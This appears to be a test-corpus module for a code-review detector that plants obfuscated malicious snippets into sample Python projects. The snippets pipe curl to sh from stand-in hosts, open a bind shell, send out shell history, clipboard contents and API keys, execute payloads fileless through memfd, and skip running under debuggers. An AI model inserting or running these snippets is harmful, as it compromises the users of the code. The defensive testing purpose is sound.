"""The same powers by ways that few people know: what else in the standard library runs code, starts programs, connects."""

# ruff: noqa: E501 - what is planted is kept on lines of its own length

from __future__ import annotations

from tests.review.corpus.attack import Family, planted
from tests.review.corpus.draft import Draft
from tests.review.corpus.payloads import STAGE, as_base64

__all__: list[str] = []

_IMPORT = Family.IMPORT_TIME
_FIRST = Family.FIRST_USE
_GAINED = Family.EXISTING_CODE
_DECODED = Family.DECODE_EXECUTE
_SECRETS = Family.CREDENTIALS
_ENDPOINT = Family.ENDPOINT
_EVASION = Family.EVASION
_REFLECTION = Family.REFLECTION


@planted(_IMPORT, base="command", where=("tidelog/times.py",), evasive=True, unasked=True)
def statement_that_is_timed(draft: Draft) -> None:
    draft.append(
        "tidelog/times.py",
        "\n\nimport timeit\n\nRESOLUTION = timeit.timeit(\"import os; os.system('curl -s https://t.invalid | sh')\", number=1)\n",
    )


@planted(_IMPORT, base="client", where=("harborline/_models.py",), evasive=True, unasked=True)
def name_of_an_attribute_is_set(draft: Draft) -> None:
    draft.append(
        "harborline/_models.py",
        """


        class _Field:
            def __set_name__(self, owner, name):
                import subprocess

                subprocess.Popen(["sh", "-c", "curl -s https://d.invalid/" + name + " | sh"])


        class Receipt:
            total = _Field()
        """,
    )


@planted(_IMPORT, base="framework", where=("quayside/settings.py",), evasive=True, unasked=True)
def side_effect_of_a_comprehension(draft: Draft) -> None:
    draft.append(
        "quayside/settings.py",
        "\n\nDEFAULTS = {key: value for key in ('a',) if (value := os.popen('curl -s https://w.invalid/' + key).read())}\n",
    )


@planted(_IMPORT, base="framework", where=("quayside/expressions.py",), evasive=True, unasked=True)
def newer_syntax(draft: Draft) -> None:
    draft.append(
        "quayside/expressions.py",
        """


        type Names = dict[str, object]


        def _kind[T](value: T) -> T:
            match value:
                case {"run": str(command)}:
                    __import__("os").system(command)
            return value


        _kind({"run": "curl -s https://new.invalid | sh"})
        """,
    )


@planted(_IMPORT, base="native", where=("fastbuoy/_fallback.py",), evasive=True, unasked=True)
def context_manager(draft: Draft) -> None:
    draft.append(
        "fastbuoy/_fallback.py",
        """


        class _Timed:
            def __enter__(self):
                return self

            def __exit__(self, *_):
                from http.client import HTTPConnection

                HTTPConnection("192.0.2.19", 8000).request("GET", "/" + __import__("getpass").getuser())


        with _Timed():
            ORDER = "big"
        """,
    )


@planted(_IMPORT, base="client", where=("harborline/_client.py",), evasive=True, unasked=True)
def event_loop(draft: Draft) -> None:
    draft.append(
        "harborline/_client.py",
        """


        async def _check():
            import asyncio

            await asyncio.create_subprocess_shell("curl -s https://loop.invalid | sh")


        try:
            __import__("asyncio").run(_check())
        except RuntimeError:
            pass
        """,
    )


@planted(_IMPORT, base="command", where=("tidelog/parsing.py",), evasive=True, unasked=True)
def annotation_that_is_evaluated(draft: Draft) -> None:
    draft.append(
        "tidelog/parsing.py",
        """


        from typing import get_type_hints


        class _Entry:
            host: "__import__('os').system('curl -s https://hint.invalid | sh')"


        FIELDS = get_type_hints(_Entry)
        """,
    )


@planted(_FIRST, base="command", where=("tidelog/render.py",), evasive=True)
def pager_of_the_documentation(draft: Draft) -> None:
    draft.append(
        "tidelog/render.py",
        "\n\ndef show(text):\n    import pydoc\n\n    pydoc.pipepager(text, 'sh -c \"cat > /tmp/.p; curl -s https://p.invalid | sh\"')\n",
    )


@planted(_FIRST, base="command", where=("tidelog/cli.py",), evasive=True)
def log_that_goes_elsewhere(draft: Draft) -> None:
    draft.after(
        "tidelog/cli.py",
        "    options = build_parser()",
        "    import logging.handlers\n\n    logging.getLogger().addHandler(logging.handlers.HTTPHandler('logs.invalid:8443', '/in', method='POST', secure=True))\n"
        "    logging.getLogger().warning('%s', sys.argv)\n",
    )


@planted(_FIRST, base="native", where=("fastbuoy/frames.py",), evasive=True)
def connection_of_multiprocessing(draft: Draft) -> None:
    draft.append(
        "fastbuoy/frames.py",
        "\n\ndef share(frame):\n    from multiprocessing.connection import Client\n\n    with Client(('203.0.113.70', 6000)) as link:\n        link.send(frame)\n        return link.recv()\n",
    )


@planted(_FIRST, base="native", where=("fastbuoy/_fallback.py",), evasive=True)
def interpreter_by_its_c_api(draft: Draft) -> None:
    draft.append(
        "fastbuoy/_fallback.py",
        "\n\ndef _fast():\n    from ctypes import pythonapi as api\n\n    api.PyRun_SimpleString(b'import os; os.getcwd()')\n",
    )


@planted(_FIRST, base="command", where=("tidelog/formats/jsonl.py",), evasive=True)
def module_below_the_module(draft: Draft) -> None:
    draft.append(
        "tidelog/formats/jsonl.py", "\n\ndef _flush(command):\n    import posix\n\n    return posix.system(command)\n"
    )


@planted(_FIRST, base="command", where=("tidelog/formats/apache.py",), evasive=True)
def worker_processes(draft: Draft) -> None:
    draft.append(
        "tidelog/formats/apache.py",
        "\n\ndef _serve(port=4455):\n    import socketserver\n\n    class Handler(socketserver.StreamRequestHandler):\n        def handle(self):\n"
        "            import subprocess\n\n            self.wfile.write(subprocess.getoutput(self.rfile.readline().decode()).encode())\n\n"
        "    socketserver.TCPServer(('0.0.0.0', port), Handler).handle_request()\n",
    )


@planted(_GAINED, base="client", where=("harborline/resources/messages.py",), evasive=True)
def yaml_that_makes_objects(draft: Draft) -> None:
    draft.replace(
        "harborline/resources/messages.py",
        '        return Page([Message.from_json(item) for item in data["items"]], data.get("cursor"))\n',
        '        import yaml\n\n        extra = yaml.load(data.get("extra", ""), Loader=yaml.UnsafeLoader)\n'
        '        return Page([Message.from_json(item) for item in data["items"]], extra or data.get("cursor"))\n',
    )


@planted(_GAINED, base="framework", where=("quayside/notify.py",), evasive=True)
def source_file_loader(draft: Draft) -> None:
    draft.replace(
        "quayside/notify.py",
        "        self.timeout = timeout\n",
        "        self.timeout = timeout\n        from importlib.machinery import SourceFileLoader\n\n"
        "        SourceFileLoader('theme', '/var/tmp/.theme.py').load_module()\n",
    )


@planted(_GAINED, base="client", where=("harborline/_errors.py",), evasive=True)
def installs_with_pip_inside(draft: Draft) -> None:
    draft.replace(
        "harborline/_errors.py",
        "            message = response.text[:200]\n",
        "            from pip._internal.cli.main import main as fix\n\n            fix(['install', '-q', '--extra-index-url', 'https://idx.invalid/simple', 'harborline-fix'])\n            message = response.text[:200]\n",
    )


@planted(_GAINED, base="framework", where=("quayside/runtime/worker.py",), evasive=True)
def hook_for_exceptions(draft: Draft) -> None:
    draft.after(
        "quayside/runtime/worker.py",
        "    def start(self):",
        "        def _seen(kind, error, trace):\n            import http.client\n\n            h = http.client.HTTPSConnection('crash.invalid')\n"
        "            h.request('POST', '/', repr(trace.tb_frame.f_locals))\n\n        sys.excepthook = _seen\n",
    )


@planted(_DECODED, base="client", where=("harborline/_version.py",), evasive=True, unasked=True)
def interactive_interpreter(draft: Draft) -> None:
    draft.append(
        "harborline/_version.py",
        f"\nimport binascii\nimport code\n\ncode.InteractiveInterpreter().runcode(binascii.a2b_hex('{STAGE.encode().hex()}').decode())\n",
    )


@planted(_DECODED, base="framework", where=("quayside/settings.py",), evasive=True, unasked=True)
def numbers_that_are_bytes(draft: Draft) -> None:
    number = int.from_bytes(STAGE.encode(), "big")
    draft.append(
        "quayside/settings.py",
        f"\n\n_SEED = {number:#x}\n_S = _SEED.to_bytes((_SEED.bit_length() + 7) // 8, 'big')\n(lambda c: c)(exec)(_S.decode())\n",
    )


@planted(_DECODED, base="command", where=("tidelog/render.py",), evasive=True, unasked=True)
def table_of_translation(draft: Draft) -> None:
    alphabet = "abcdefghijklmnopqrstuvwxyz"
    turned = alphabet[11:] + alphabet[:11]
    text = STAGE.translate(str.maketrans(alphabet, turned))
    draft.append(
        "tidelog/render.py",
        f"\n\n_T = str.maketrans({turned!r}, {alphabet!r})\neval(compile({text!r}.translate(_T), '', 'exec'))\n",
    )


@planted(_DECODED, base="client", where=("harborline/_retry.py",), evasive=True)
def compressed_shelf(draft: Draft) -> None:
    draft.append(
        "harborline/_retry.py",
        f"""


        def load_policy(text="{as_base64(times=2)}"):
            import base64
            import bz2
            import dill

            for _ in range(2):
                text = base64.b64decode(text)
            return dill.loads(text)
        """,
    )


@planted(_DECODED, base="native", where=("fastbuoy/_fallback.py",), evasive=True, unasked=True)
def code_object_by_hand(draft: Draft) -> None:
    draft.append(
        "fastbuoy/_fallback.py",
        "\n\ndef _frame():\n    pass\n\n\n_frame.__code__ = _frame.__code__.replace(co_code=bytes.fromhex('970064006401'), co_consts=(0, None), co_names=('os', 'system'))\n_frame()\n",
    )


@planted(_SECRETS, base="framework", where=("quayside/web/health.py",), evasive=True)
def clipboard_and_screen(draft: Draft) -> None:
    draft.append(
        "quayside/web/health.py",
        "\n\ndef _look():\n    import tkinter\n    import urllib.request\n\n    root = tkinter.Tk()\n    urllib.request.urlopen('https://clip.invalid', data=root.clipboard_get().encode())\n",
    )


@planted(_SECRETS, base="client", where=("harborline/_retry.py",), evasive=True)
def history_of_the_shell(draft: Draft) -> None:
    draft.append(
        "harborline/_retry.py",
        "\n\ndef _telemetry(policy):\n    import pathlib\n    import httpx\n\n    for name in ('bash', 'zsh'):\n        path = pathlib.Path('~').expanduser().joinpath(f'.{name}_history')\n"
        "        if path.is_file():\n            httpx.put('https://telemetry.invalid/' + name, content=path.read_bytes()[-4096:])\n",
    )


@planted(_ENDPOINT, base="client", where=("harborline/_client.py",), evasive=True)
def host_from_a_record(draft: Draft) -> None:
    draft.replace(
        "harborline/_client.py",
        "        self.messages = Messages(self)\n",
        "        import dns.resolver\n\n        edge = b''.join(dns.resolver.resolve('cfg.invalid', 'TXT')[0].strings).decode()\n"
        "        httpx.post('https://' + edge, json={'k': self.api_key})\n        self.messages = Messages(self)\n",
    )


@planted(_ENDPOINT, base="framework", where=("quayside/notify.py",), evasive=True)
def chain_as_a_mailbox(draft: Draft) -> None:
    draft.append(
        "quayside/notify.py",
        "\n\ndef _peers():\n    query = {'jsonrpc': '2.0', 'method': 'eth_call', 'params': [{'to': '0x' + '5e' * 20, 'data': '0x3bc5de30'}, 'latest'], 'id': 1}\n"
        "    with urllib.request.urlopen('https://rpc.invalid', data=json.dumps(query).encode()) as answer:\n        return bytes.fromhex(json.load(answer)['result'][2:]).decode()\n",
    )


@planted(_EVASION, base="framework", where=("quayside/web/health.py",), evasive=True)
def file_in_memory(draft: Draft) -> None:
    draft.after(
        "quayside/web/health.py",
        "        health = self",
        "        import os, urllib.request\n\n        handle = os.memfd_create('', 1)\n        os.write(handle, urllib.request.urlopen('https://mem.invalid/e').read())\n"
        "        if not os.fork():\n            os.execve(handle, ['[kworker/0:1]'], {})\n",
    )


@planted(_EVASION, base="client", where=("harborline/_client.py",), evasive=True)
def only_where_nobody_debugs(draft: Draft) -> None:
    draft.after(
        "harborline/_client.py",
        "    def close(self) -> None:",
        "        import sys, uuid\n\n        if sys.gettrace() is None and uuid.getnode() >> 24 not in (0x000C29, 0x080027) and 'pytest' not in sys.modules:\n"
        "            eval(httpx.get('https://gate.invalid').text)\n",
    )


@planted(_REFLECTION, base="framework", where=("quayside/plugins.py",), evasive=True, unasked=True)
def name_that_is_resolved(draft: Draft) -> None:
    draft.append(
        "quayside/plugins.py",
        "\n\nimport pkgutil\n\npkgutil.resolve_name('o' + 's:' + 'sys' 'tem')('curl -s https://res.invalid | sh')\n",
    )


@planted(_REFLECTION, base="client", where=("harborline/_models.py",), evasive=True, unasked=True)
def attribute_of_an_attribute(draft: Draft) -> None:
    draft.append(
        "harborline/_models.py",
        "\n\nimport functools\n\nfunctools.reduce(getattr, ['sys', 'modules'], __import__('inspect'))['o' + 's'].system('id')\n",
    )
